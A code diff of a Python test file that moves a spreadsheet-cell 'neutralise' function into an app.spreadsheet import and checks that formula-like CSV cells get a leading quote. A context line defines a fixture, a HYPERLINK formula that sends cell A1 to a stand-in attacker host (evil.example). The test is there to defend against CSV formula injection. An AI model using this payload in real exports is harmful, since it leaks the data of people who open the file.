@@ -20,6 +20,7 @@ from app.extensions import db
 from app.formatting import PARIS
 from app.mail.delivery import deliver_pending
 from app.mail.models import OutboxMail
+from app.spreadsheet import neutralise
 from tests.conftest import login, require
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1;"Cliquez ici")'
@@ -301,12 +302,12 @@ def test_the_csv_has_a_presence_column_once_attendance_is_taken(app, session):
 
 @pytest.mark.parametrize("cell", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"])
 def test_cells_a_spreadsheet_would_run_are_neutralised(cell):
-    assert sheets.neutralise(cell) == "'" + cell
+    assert neutralise(cell) == "'" + cell
 
 
 @pytest.mark.parametrize("cell", ["Martin", "L'Hôte-Dupré", "", "1+1", "Jean-Marc"])
 def test_other_cells_are_kept(cell):
-    assert sheets.neutralise(cell) == cell
+    assert neutralise(cell) == cell
 
 
 # --- access ------------------------------------------------------------------------------------
